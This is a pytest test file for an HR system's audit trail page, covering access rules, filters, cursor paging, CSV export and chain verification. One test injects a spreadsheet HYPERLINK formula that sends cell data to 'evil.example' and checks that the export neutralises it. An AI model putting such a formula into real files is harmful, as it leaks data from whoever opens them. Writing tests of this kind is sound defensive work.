"""The audit trail page: HR admins only; filters (who, what, when, which candidate, which
request), cursor pages, the CSV export, the chain check, and the page's own audit events."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from audit.models import AuditAction, AuditEvent
from audit.services import audit_list, audit_record
from backoffice.views import audit as views
from candidates.models import Candidate
from hrsuite.roles import Role
from tests.browser import sign_in
from tests.factories import make_candidate, make_user

TRAIL = "/hr/audit/"
EXPORT = "/hr/audit/export.csv"
pytestmark = pytest.mark.django_db


@pytest.fixture
def hr_admin(db):
    return make_user(Role.HR_ADMIN, username="hradmin", time_zone="Asia/Shanghai")


@pytest.fixture
def committed(django_capture_on_commit_callbacks):
    """What is written inside it is chained as after a commit (the test's transaction never
    commits): the page's rows show their seq."""
    return lambda: django_capture_on_commit_callbacks(execute=True)


@pytest.fixture
def trail(recruiter, committed):
    """Two candidates' files read by the recruiter, and a failed sign-in."""
    with committed():
        ada = make_candidate(recruiter, full_name="Ada Lovelace", email="ada@example.test")
        bo = make_candidate(recruiter, full_name="Bo Yang", email="bo@example.test")
        for candidate in (ada, bo):
            audit_record(actor=recruiter, action=AuditAction.VIEW, target=candidate)
        audit_record(actor="anonymous", action=AuditAction.LOGIN_FAILED, detail={"username": "mallory"})
    return {"ada": ada, "bo": bo}


def shown_seqs(response) -> list[int]:
    return [int(seq) for seq in re.findall(r'<td class="num">(\d+)</td>', response.text)]


def events_of(response) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(seq__in=shown_seqs(response)).order_by("-seq"))


def shown(response) -> list[AuditEvent]:
    """The events a page shows, chained or not, in its order."""
    return [row["event"] for row in response.context["rows"]]


def page_event(user) -> AuditEvent:
    return AuditEvent.objects.filter(action="list", target_type="audit.auditevent", actor=user).latest("id")


# --- Who may open it -------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.RECRUITER, Role.INTERVIEWER, Role.CANDIDATE])
@pytest.mark.parametrize("url", [TRAIL, EXPORT])
def test_only_hr_admins_open_the_trail_and_its_export(client, role, url):
    client.force_login(make_user(role))
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", [TRAIL, EXPORT])
def test_anonymous_visitor_is_sent_to_sign_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response.url.startswith(reverse("sign-in"))


def test_recruiter_cannot_verify_the_chain_or_look_up_e_mails(client, recruiter):
    client.force_login(recruiter)
    assert client.post(reverse("hr-audit-verify")).status_code == 403
    assert client.post(reverse("hr-audit-candidate"), {"email": "ada@example.test"}).status_code == 403


# --- The page and its own audit event --------------------------------------------------------------


def test_trail_lists_events_newest_first_and_records_one_list_event(client, hr_admin, trail, committed):
    with committed():
        client.force_login(hr_admin)  # its sign-in event is on the page too
    response = client.get(TRAIL)
    assert response.status_code == 200
    seqs = shown_seqs(response)
    assert seqs == sorted(seqs, reverse=True) and len(seqs) >= 4
    assert "Asia/Shanghai" in response.text
    event = page_event(hr_admin)
    assert event.target_ids == [str(e.pk) for e in events_of(response)]
    assert event.detail == {"page": TRAIL, "query": {}}


def test_a_list_event_shows_the_records_it_named_escaped(client, hr_admin, recruiter, trail):
    ids = [trail["ada"].pk, trail["bo"].pk, "<b>planted</b>"]
    audit_list(actor=recruiter, model=Candidate, ids=ids, detail={"page": "test"})
    client.force_login(hr_admin)
    text = client.get(TRAIL).text
    shown = f'<code class="id">{trail["ada"].pk} {trail["bo"].pk} &lt;b&gt;planted&lt;/b&gt;</code>'
    assert "3 records" in text and shown in text
    assert "<b>planted</b>" not in text


def test_trail_page_takes_the_same_queries_whatever_the_trail_holds(
    client, hr_admin, recruiter, trail, django_assert_num_queries, committed
):
    client.force_login(hr_admin)
    client.get(TRAIL)
    with django_assert_num_queries(QUERIES):
        client.get(TRAIL)
    with committed():
        for _ in range(views.PAGE_SIZE + 5):
            audit_list(actor=recruiter, model=Candidate, ids=[trail["ada"].pk])
    newest = AuditEvent.objects.filter(seq__isnull=False).latest("seq").seq
    with django_assert_num_queries(QUERIES):
        client.get(TRAIL, {"before": newest})


# Session and user (2); the request's savepoint and release (2); roles and permissions (1); one
# page of events (1); its audit event (1, chained after the commit). No COUNT: the trail only grows.
QUERIES = 7


def test_pages_follow_a_cursor_on_seq_and_never_count(client, hr_admin, recruiter, trail, committed):
    with committed():
        for _ in range(views.PAGE_SIZE + 5):
            audit_list(actor=recruiter, model=Candidate, ids=[trail["ada"].pk])
    client.force_login(hr_admin)
    with CaptureQueriesContext(connection) as queries:
        first = client.get(TRAIL, {"actor": "recruiter"})
    assert not any("COUNT(" in q["sql"].upper() for q in queries.captured_queries)
    newest = shown_seqs(first)
    assert len(newest) == views.PAGE_SIZE
    older_link = re.search(r'href="\?([^"]*before=(\d+))"', first.text)
    assert older_link and int(older_link.group(2)) == newest[-1]
    assert "after=" not in first.text  # nothing newer than the newest page

    older = client.get(TRAIL + "?" + older_link.group(1).replace("&amp;", "&"))
    assert all(seq < newest[-1] for seq in shown_seqs(older))
    assert {e.actor_label for e in events_of(older)} == {"recruiter"}
    newer_link = re.search(r'href="\?([^"]*after=(\d+))"', older.text)
    assert newer_link
    back = client.get(TRAIL + "?" + newer_link.group(1).replace("&amp;", "&"))
    assert shown_seqs(back) == newest


def test_unchained_events_beyond_a_page_are_paged_by_id_then_the_chain_below_them(
    client, hr_admin, recruiter, trail
):
    # Not committed, so not chained: more of them than a page holds (a chainer that stalled).
    for _ in range(views.PAGE_SIZE + 5):
        audit_list(actor=recruiter, model=Candidate, ids=[trail["ada"].pk])
    client.force_login(hr_admin)

    first = client.get(TRAIL, {"actor": "recruiter"})
    older_link = re.search(r'href="\?([^"]*before=i\d+)"', first.text).group(1).replace("&amp;", "&")
    second = client.get(f"{TRAIL}?{older_link}")

    assert shown_seqs(first) == []
    unchained = list(AuditEvent.objects.filter(actor_label="recruiter", seq__isnull=True).order_by("-id"))
    chained = list(AuditEvent.objects.filter(actor_label="recruiter", seq__isnull=False).order_by("-seq"))
    assert shown(first) == unchained[: views.PAGE_SIZE]
    # The rest of the unchained events, none skipped, then the chain below them.
    assert shown(second) == unchained[views.PAGE_SIZE :] + chained and chained
    newer_link = re.search(r'href="\?([^"]*after=i\d+)"', second.text).group(1).replace("&amp;", "&")
    assert shown(client.get(f"{TRAIL}?{newer_link}")) == unchained[: views.PAGE_SIZE]


def test_a_page_position_that_is_not_in_the_trail_is_refused(client, hr_admin, trail):
    client.force_login(hr_admin)

    assert client.get(TRAIL, {"before": "i999999999"}).status_code == 400
    assert client.get(TRAIL, {"before": "x12"}).status_code == 400
    assert client.get(TRAIL, {"after": "9" * 19}).status_code == 400  # past any key a database holds
    assert client.get(TRAIL, {"before": "i\u0661\u0662"}).status_code == 400  # digits, not ASCII ones


# --- Filters ---------------------------------------------------------------------------------------


def test_filter_by_who(client, hr_admin, recruiter, trail):
    client.force_login(hr_admin)
    response = client.get(TRAIL, {"actor": "anonymous"})
    assert [e.action for e in events_of(response)] == ["login_failed"]
    assert page_event(hr_admin).detail["query"] == {"actor": "anonymous"}


def test_filter_by_what_was_done_and_record_type(client, hr_admin, trail):
    client.force_login(hr_admin)
    views_ = events_of(client.get(TRAIL, {"action": "view"}))
    assert views_ and {e.action for e in views_} == {"view"}
    created = events_of(client.get(TRAIL, {"action": "create", "target_type": "candidates.candidate"}))
    assert {e.target_id for e in created} == {str(trail["ada"].pk), str(trail["bo"].pk)}


def test_filter_by_candidate_id(client, hr_admin, trail):
    client.force_login(hr_admin)
    events = events_of(client.get(TRAIL, {"candidate": str(trail["ada"].pk)}))
    assert {e.action for e in events} == {"create", "view"}
    assert {e.candidate_id for e in events} == {trail["ada"].pk}


def test_filter_by_request_id(client, hr_admin, trail):
    request_id = AuditEvent.objects.filter(action="login_failed").get().request_id
    client.force_login(hr_admin)
    assert [e.action for e in events_of(client.get(TRAIL, {"request_id": request_id}))] == ["login_failed"]


def test_dates_are_days_in_the_viewers_time_zone(client, hr_admin, recruiter, committed):
    # 01:00 on 2 March in Shanghai is still 1 March in UTC.
    with time_machine.travel(datetime(2027, 3, 1, 17, 0, tzinfo=UTC), tick=False), committed():
        event = audit_record(actor=recruiter, action=AuditAction.EXPORT, target_type="test.night")
    client.force_login(hr_admin)
    night = {"target_type": "test.night"}
    assert events_of(client.get(TRAIL, {**night, "date_from": "2027-03-02", "date_to": "2027-03-02"})) == [
        event
    ]
    assert events_of(client.get(TRAIL, {**night, "date_from": "2027-03-01", "date_to": "2027-03-01"})) == []
    # The row says when in the viewer's zone, to the second.
    assert '<td class="nowrap">2027-03-02<br>01:00:00</td>' in client.get(TRAIL, night).text


def _written(when: datetime, target_type: str, committed=None) -> AuditEvent:
    """An event written at `when`; chained at once with `committed`, else left unchained."""
    with time_machine.travel(when, tick=False):
        if committed is None:
            return audit_record(actor="test", action=AuditAction.VIEW, target_type=target_type)
        with committed():
            event = audit_record(actor="test", action=AuditAction.VIEW, target_type=target_type)
    event.refresh_from_db()
    return event


def test_a_day_lists_an_event_chained_after_later_ones_in_its_place(client, hr_admin, committed):
    """An event written in a long transaction is chained after events written later: it is
    still on its own day (in Shanghai, the viewer's zone), in its place in the chain, and the
    next day's event chained before it is not."""
    evening = _written(datetime(2027, 3, 1, 14, 0, tzinfo=UTC), "test.day", committed)
    next_morning = _written(datetime(2027, 3, 2, 1, 0, tzinfo=UTC), "test.day", committed)
    late = _written(datetime(2027, 3, 1, 15, 0, tzinfo=UTC), "test.day", committed)
    assert evening.seq < next_morning.seq < late.seq
    client.force_login(hr_admin)

    first = events_of(client.get(TRAIL, {"date_from": "2027-03-01", "date_to": "2027-03-01"}))
    second = events_of(client.get(TRAIL, {"date_from": "2027-03-02"}))

    assert first == [late, evening]
    assert second[-1:] == [next_morning] and late not in second and evening not in second


def test_a_days_events_not_chained_yet_are_on_top_of_its_first_page(client, hr_admin, committed):
    chained = _written(datetime(2027, 3, 1, 14, 0, tzinfo=UTC), "test.day", committed)
    _written(datetime(2027, 3, 2, 1, 0, tzinfo=UTC), "test.day", committed)
    pending = _written(datetime(2027, 3, 1, 15, 0, tzinfo=UTC), "test.day")
    client.force_login(hr_admin)

    text = client.get(TRAIL, {"date_from": "2027-03-01", "date_to": "2027-03-01"}).text

    assert re.findall(r'<td class="num">([^<]*)</td>', text) == ["\u2013", str(chained.seq)]
    assert page_event(hr_admin).target_ids == [str(pending.pk), str(chained.pk)]


def test_a_time_range_pages_through_its_own_events(client, hr_admin, committed, django_assert_num_queries):
    """Older and newer pages of a day keep to its events; the first page takes one query more
    than without a time filter (its unchained events, read apart), and no page takes more for
    a longer trail."""
    day = [_written(datetime(2027, 3, 1, 2, n, tzinfo=UTC), "test.day", committed) for n in range(55)]
    query = {"date_from": "2027-03-01", "date_to": "2027-03-01", "target_type": "test.day"}
    client.force_login(hr_admin)
    client.get(TRAIL, query)

    with django_assert_num_queries(QUERIES + 1):
        first = client.get(TRAIL, query)
    older_link = re.search(r'href="\?([^"]*before=\d+)"', first.text).group(1).replace("&amp;", "&")
    with django_assert_num_queries(QUERIES):
        older = client.get(f"{TRAIL}?{older_link}")
    newer_link = re.search(r'href="\?([^"]*after=\d+)"', older.text).group(1).replace("&amp;", "&")

    newest_first = [event.seq for event in reversed(day)]
    assert shown_seqs(first) == newest_first[: views.PAGE_SIZE]
    assert shown_seqs(older) == newest_first[views.PAGE_SIZE :]
    assert shown_seqs(client.get(f"{TRAIL}?{newer_link}")) == newest_first[: views.PAGE_SIZE]
    for _ in range(20):
        _written(datetime(2027, 3, 2, 3, 0, tzinfo=UTC), "test.day", committed)
    with django_assert_num_queries(QUERIES + 1):
        assert shown_seqs(client.get(TRAIL, query)) == newest_first[: views.PAGE_SIZE]


def test_each_action_has_its_badge_colour(client, hr_admin, recruiter, trail):
    for action in (AuditAction.EXPORT, AuditAction.DECISION, AuditAction.PERMISSION_GRANT):
        audit_record(actor=recruiter, action=action, target_type="test.colour")
    client.force_login(hr_admin)
    text = client.get(TRAIL).text
    assert '<span class="badge bad">Failed sign-in</span>' in text
    assert '<span class="badge neutral">View</span>' in text
    assert '<span class="badge">Create</span>' in text
    assert '<span class="badge warn">Export</span>' in text
    assert '<span class="badge ok">Decision</span>' in text
    assert '<span class="badge ok">Permission granted</span>' in text


def test_candidate_found_by_e_mail_without_the_address_reaching_a_url_or_the_trail(client, hr_admin, trail):
    client.force_login(hr_admin)
    response = client.post(
        reverse("hr-audit-candidate"), {"email": " Ada@Example.test ", "query": "action=view"}
    )
    assert response.status_code == 302
    assert response.url == f"{TRAIL}?action=view&candidate={trail['ada'].pk}"
    lookup = AuditEvent.objects.filter(
        action="list", target_type="candidates.candidate", actor=hr_admin
    ).get()
    assert lookup.target_ids == [str(trail["ada"].pk)]
    events = events_of(client.get(response.url))
    assert [(e.action, e.candidate_id) for e in events] == [("view", trail["ada"].pk)]
    assert not AuditEvent.objects.filter(detail__icontains="ada@example").exists()


@pytest.mark.parametrize(
    ("email", "message"),
    [
        ("nobody@example.test", "No candidate has this e-mail address."),
        ("not-an-address", "Enter a valid e-mail"),
    ],
)
def test_unknown_or_malformed_e_mail_is_said_next_to_the_field(client, hr_admin, trail, email, message):
    client.force_login(hr_admin)
    response = client.post(reverse("hr-audit-candidate"), {"email": email})
    assert response.status_code == 400
    assert message in response.text
    assert f'value="{email}"' in response.text
    assert "the candidate&#39;s e-mail" in response.text


@pytest.mark.parametrize(
    ("query", "label"),
    [
        ({"candidate": "ada"}, "Candidate ID"),
        ({"date_from": "yesterday"}, "From (date)"),
        ({"date_from": "2027-03-02", "date_to": "2027-03-01"}, "To (date)"),
        ({"action": "teleport"}, "What was done"),
        ({"before": "-3"}, "Page position"),
    ],
)
def test_bad_filter_value_is_a_400_naming_the_field(client, hr_admin, trail, query, label):
    client.force_login(hr_admin)
    before = AuditEvent.objects.count()
    response = client.get(TRAIL, query)
    assert response.status_code == 400
    assert re.search(r'role="alert">Nothing is listed: check [^<]*' + re.escape(label), response.text)
    if label != "Page position":  # the cursor is in the links, not in a field
        assert 'aria-invalid="true"' in response.text
    assert "<table" not in response.text
    assert AuditEvent.objects.count() == before  # nothing listed, nothing recorded


# --- CSV export ------------------------------------------------------------------------------------


def test_export_streams_the_filtered_trail_as_csv_and_is_itself_audited(client, hr_admin, trail):
    client.force_login(hr_admin)
    response = client.get(EXPORT, {"candidate": str(trail["bo"].pk), "before": "99999"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="audit-events.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {(r["action"], r["candidate_id"]) for r in rows} == {
        ("create", str(trail["bo"].pk)),
        ("view", str(trail["bo"].pk)),
    }
    export = AuditEvent.objects.filter(action="export", actor=hr_admin).get()
    assert export.detail == {"query": {"candidate": str(trail["bo"].pk)}, "rows": 2}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t=", "\r="])
def test_export_neutralises_spreadsheet_formulas_a_visitor_typed(client, hr_admin, lead):
    """A failed sign-in's user agent is whatever the visitor sent; a spreadsheet opening the
    export must read it as text, also behind a tab or carriage return (OWASP's CSV injection list)."""
    agent = f'{lead}HYPERLINK("https://evil.example/?x="&A1,"open")'
    client.post("/account/sign-in/", {"username": "mallory", "password": "x"}, HTTP_USER_AGENT=agent)
    client.force_login(hr_admin)
    response = client.get(EXPORT, {"action": "login_failed"})
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["user_agent"] == "'" + agent


def test_export_with_a_bad_filter_is_the_page_with_the_error(client, hr_admin, trail):
    client.force_login(hr_admin)
    response = client.get(EXPORT, {"date_to": "31/31/2027"})
    assert response.status_code == 400
    assert "To (date)" in response.text
    assert not AuditEvent.objects.filter(action="export").exists()


def test_page_links_its_filters_to_the_export(client, hr_admin, trail):
    client.force_login(hr_admin)
    text = client.get(TRAIL, {"action": "view", "before": "99999"}).text
    assert f'href="{EXPORT}?action=view"' in text


# --- Chain verification ----------------------------------------------------------------------------


def test_hr_admin_verifies_the_chain_and_the_page_shows_the_result(client, hr_admin, trail):
    client.force_login(hr_admin)
    response = client.post(reverse("hr-audit-verify"), {"query": "action=view"}, follow=True)
    assert response.redirect_chain == [(f"{TRAIL}?action=view", 302)]
    assert "The audit trail is intact" in response.text
    assert re.search(r"Intact: \d+ events verified", response.text)


# --- Language --------------------------------------------------------------------------------------


def test_trail_renders_in_chinese(client, hr_admin, trail):
    hr_admin.preferred_language = "zh-hans"
    hr_admin.save(update_fields=["preferred_language"])
    client.force_login(hr_admin)
    text = client.get(TRAIL).text
    assert "审计记录" in text
    assert "导出 CSV" in text
    assert "筛选" in text
    bad = client.get(TRAIL, {"candidate": "ada"})
    assert "候选人 ID" in bad.text


# --- In a real browser -----------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_browser_hr_admin_filters_by_candidate_and_exports_csv(browser_page):
    from playwright.sync_api import expect

    recruiter = make_user(Role.RECRUITER, username="rita")
    admin = make_user(Role.HR_ADMIN, username="hana", time_zone="Asia/Shanghai")
    ada = make_candidate(recruiter, full_name="Ada Lovelace", email="ada@example.test")
    make_candidate(recruiter, full_name="Bo Yang", email="bo@example.test")
    audit_record(actor=recruiter, action=AuditAction.VIEW, target=ada)

    page = browser_page()
    sign_in(page, admin)
    page.get_by_role("link", name="Audit trail").click()
    expect(page.get_by_role("heading", name="Audit trail", level=1)).to_be_visible()

    page.get_by_label("Candidate's e-mail").fill("ada@example.test")
    page.get_by_role("button", name="Find candidate").click()
    expect(page.get_by_label("Candidate ID")).to_have_value(str(ada.pk))
    assert "ada@example" not in page.url
    rows = page.locator("table.audit-table tbody tr")
    expect(rows).to_have_count(2)  # created and viewed
    expect(rows.first).to_contain_text("rita")

    with page.expect_download() as download_info:
        page.get_by_role("link", name="Export CSV").click()
    download = download_info.value
    assert download.suggested_filename == "audit-events.csv"
    with open(download.path(), encoding="utf-8") as handle:
        exported = list(csv.DictReader(handle))
    assert {(r["actor_label"], r["action"]) for r in exported} == {("rita", "create"), ("rita", "view")}
    assert {r["candidate_id"] for r in exported} == {str(ada.pk)}
    assert AuditEvent.objects.filter(action="export", actor=admin).exists()
